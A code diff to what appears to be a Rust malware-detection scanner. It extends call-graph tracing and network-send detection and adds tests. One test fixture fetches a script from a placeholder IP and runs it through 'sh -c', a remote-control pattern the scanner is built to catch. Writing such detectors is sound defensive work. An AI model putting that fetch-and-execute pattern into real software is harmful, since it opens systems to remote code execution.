@@ -22,7 +22,9 @@ use std::collections::{BTreeMap, HashMap};
 
 use super::context::Context;
 use super::signal::{HostClass, ProgramClass, Sensitivity, Signal, SignalKind};
-use super::vocabulary::{CLIPBOARD_READS, CLIPBOARD_WRITES, COMMON_METHODS, SENDING_METHODS};
+use super::vocabulary::{
+    CLIPBOARD_READS, CLIPBOARD_WRITES, COMMON_METHODS, REQUEST_VERBS, SENDING_METHODS,
+};
 
 /// One statement or binding of a function body (or a file-level constant).
 #[derive(Debug, Clone, Default)]
@@ -89,6 +91,8 @@ pub struct FunctionFlow {
     pub filled: Vec<bool>,
     /// The trait its `impl` implements, if any (`Step` for `impl Step for Shell`).
     pub implements: Option<String>,
+    /// Parameters typed as a connection or a network client (`agent: &ureq::Agent`).
+    pub network_params: Vec<String>,
     pub statements: Vec<Statement>,
     pub calls: Vec<CallSite>,
 }
@@ -368,10 +372,10 @@ fn identifiers(code: &str) -> Vec<String> {
 /// thousand `fn f` would otherwise make every call of `f` a thousand edges).
 const MAX_CALLEES: usize = 8;
 
-/// Most functions a call through a pointer may reach: the crate's functions named as values
-/// that take as many arguments. A table of handlers (an interpreter's opcodes) is a few dozen;
-/// past this, nothing is followed.
-const MAX_INDIRECT_CALLEES: usize = 32;
+/// Most functions a call through a pointer may reach: the functions of the tables it reads that
+/// take as many arguments. A table of handlers (an interpreter's opcodes) is a few dozen to a
+/// byte's worth; past this, nothing is followed.
+const MAX_INDIRECT_CALLEES: usize = 256;
 
 /// For a call through a pointer rather than a function's name, the functions it may reach:
 /// those of the tables ([`flows_in_target`]'s `tables`) the pointer is read from, that take as
@@ -379,11 +383,12 @@ const MAX_INDIRECT_CALLEES: usize = 32;
 /// of a local or parameter no function of the crate is called (`let h = TABLE.get(op)?;
 /// h(&mut vm)`, `DETECTORS.get(kind).and_then(|detect| detect(args))`) reads those the
 /// statements binding it name, through up to two more locals. `None` for a call by name.
-fn through_table(
+fn through_table<'f>(
     by_name: &HashMap<&str, Vec<&FunctionFlow>>,
     tables: &HashMap<&str, Vec<&FunctionFlow>>,
-    caller: &FunctionFlow,
-    call: &CallSite,
+    caller: &'f FunctionFlow,
+    bindings: &std::cell::OnceCell<HashMap<&'f str, Vec<&'f Statement>>>,
+    call: &'f CallSite,
 ) -> Option<Vec<u32>> {
     if call.method || call.qualifier.is_some() {
         return None;
@@ -396,39 +401,51 @@ fn through_table(
             .is_some_and(|functions| functions.iter().any(|f| !f.method));
         // `Some(x)`, `Ok(x)` and tuple structs are built, not called.
         let constructs = call.callee.starts_with(|c: char| c.is_ascii_uppercase());
-        if named_function || constructs || tables.is_empty() {
+        if named_function || constructs {
             return None;
         }
         vec![call.callee.as_str()]
     };
+    if tables.is_empty() {
+        return Some(Vec::new());
+    }
+    // The statements that bind each name, found once per function that needs them.
+    let bindings = bindings.get_or_init(|| {
+        let mut index: HashMap<&str, Vec<&Statement>> = HashMap::new();
+        for statement in &caller.statements {
+            for def in &statement.defs {
+                index.entry(def.as_str()).or_default().push(statement);
+            }
+        }
+        index
+    });
     let mut found: Vec<u32> = Vec::new();
-    let mut seen = 0;
+    let mut visited: std::collections::HashSet<&str> = std::collections::HashSet::new();
     for _ in 0..3 {
         let mut next = Vec::new();
         for name in names.drain(..) {
+            if !visited.insert(name) || visited.len() > MAX_POINTER_NAMES {
+                continue;
+            }
             for function in tables.get(name).into_iter().flatten() {
                 if function.params.len() == call.args.len() && !found.contains(&function.scope) {
+                    if found.len() == MAX_INDIRECT_CALLEES {
+                        return Some(Vec::new());
+                    }
                     found.push(function.scope);
                 }
             }
-            for statement in &caller.statements {
-                if statement.defs.iter().any(|d| d == name) {
-                    next.extend(statement.uses.iter().map(String::as_str));
-                }
+            for statement in bindings.get(name).into_iter().flatten() {
+                next.extend(statement.uses.iter().map(String::as_str));
             }
-        }
-        seen += next.len();
-        if seen > 256 {
-            break;
         }
         names = next;
     }
-    Some(if found.len() > MAX_INDIRECT_CALLEES {
-        Vec::new()
-    } else {
-        found
-    })
+    Some(found)
 }
+
+/// Most names followed back from one call through a pointer to the tables it may read.
+const MAX_POINTER_NAMES: usize = 256;
 
 /// Most passes over a function's statements for values carried around its loops.
 const MAX_PASSES: usize = 8;
@@ -595,6 +612,7 @@ fn flows_in_target(
             .flatten()
             .copied()
             .filter(|function| !function.method)
+            .take(MAX_INDIRECT_CALLEES + 1)
             .collect();
         if named.is_empty() {
             continue;
@@ -602,9 +620,10 @@ fn flows_in_target(
         for def in &constant.defs {
             let entry = tables.entry(def.as_str()).or_default();
             for function in &named {
-                if entry.len() <= MAX_INDIRECT_CALLEES
-                    && !entry.iter().any(|f| f.scope == function.scope)
-                {
+                if entry.len() > MAX_INDIRECT_CALLEES {
+                    break;
+                }
+                if !entry.iter().any(|f| f.scope == function.scope) {
                     entry.push(function);
                 }
             }
@@ -618,8 +637,9 @@ fn flows_in_target(
             let by_name = &by_name;
             let trait_methods = &trait_methods;
             let tables = &tables;
+            let bindings = std::cell::OnceCell::new();
             function.calls.iter().enumerate().map(move |(index, call)| {
-                if let Some(found) = through_table(by_name, tables, function, call) {
+                if let Some(found) = through_table(by_name, tables, function, &bindings, call) {
                     return ((function.scope, index), found);
                 }
                 let found: Vec<u32> = callees(by_name, modules, trait_methods, function, call)
@@ -856,10 +876,14 @@ fn callees<'f>(
         match (&function.owner, &call.qualifier) {
             (None, None) => true,
             (None, Some(qualifier)) => modules.contains(qualifier.as_str()),
-            // `Self::new(…)` is the caller's own type's (where the caller has one).
+            // `Self::new(…)` is the caller's own type's (where the caller has one), or, in a
+            // trait's default method, any implementation's.
             (Some(owner), Some(qualifier)) => {
                 owner == qualifier
-                    || (qualifier == "Self" && caller.owner.as_ref().is_none_or(|own| own == owner))
+                    || (qualifier == "Self"
+                        && caller.owner.as_ref().is_none_or(|own| {
+                            own == owner || function.implements.as_ref() == Some(own)
+                        }))
             }
             (Some(_), None) => false,
         }
@@ -974,7 +998,18 @@ fn analyse_function(
             .iter()
             .filter_map(|callee| summaries.get(callee))
             .fold(0, |all, summary| all | summary.returns);
-        let sending_method = SENDING_METHODS.contains(&call.callee.as_str());
+        // A request's verb sends where it is called on a client handed in or built in the chain.
+        let on_client = call
+            .receiver
+            .as_ref()
+            .or(match &call.chain {
+                Some(ChainRoot::Variable(root)) => Some(root),
+                _ => None,
+            })
+            .is_some_and(|root| function.network_params.contains(root))
+            || call.chain == Some(ChainRoot::NetworkCrate);
+        let sending_method = SENDING_METHODS.contains(&call.callee.as_str())
+            || (on_client && REQUEST_VERBS.contains(&call.callee.as_str()));
         let sending = call
             .receiver
             .as_deref()
@@ -1250,6 +1285,52 @@ mod tests {
     /// Asserts the most severe finding of `rule` (or that there is none).
     fn expect(findings: &[(String, Verdict)], rule: &str, wanted: Option<Verdict>) {
         assert_eq!(severity(findings, rule), wanted, "{rule}: {findings:?}");
+    }
+
+    /// A request's verb on a client handed in sends its address; `get` on a map that arrived
+    /// over the network is a look-up, not a send of the host looked up.
+    #[test]
+    fn request_verbs_send_only_on_clients() {
+        let lookup = r#"
+use std::collections::HashMap;
+fn fleet(agent: &ureq::Agent) -> HashMap<String, String> {
+    agent.get("https://fleet.example.net/map").call().ok().and_then(|r| r.into_json().ok()).unwrap_or_default()
+}
+pub fn role() -> Option<String> {
+    let agent = ureq::AgentBuilder::new().build();
+    let host = std::fs::read_to_string("/etc/hostname").ok()?;
+    let map = fleet(&agent);
+    map.get(host.trim()).cloned()
+}
+"#;
+        expect(&findings(lookup), "scan.host-profiling", None);
+    }
+
+    /// `Self::fetch()` in a trait's default method reaches the implementations' `fetch`; in a
+    /// type's own method only that type's.
+    #[test]
+    fn self_calls_in_trait_defaults_reach_implementations() {
+        let defaulted = r#"
+use std::process::Command;
+pub trait Updater {
+    fn fetch() -> String;
+    fn apply(&self) {
+        let script = Self::fetch();
+        let _ = Command::new("sh").arg("-c").arg(script).status();
+    }
+}
+pub struct Remote;
+impl Updater for Remote {
+    fn fetch() -> String {
+        ureq::get("http://203.0.113.8/next").call().ok().and_then(|r| r.into_string().ok()).unwrap_or_default()
+    }
+}
+"#;
+        expect(
+            &findings(defaulted),
+            "scan.remote-control",
+            Some(Verdict::Hold),
+        );
     }
 
     #[test]
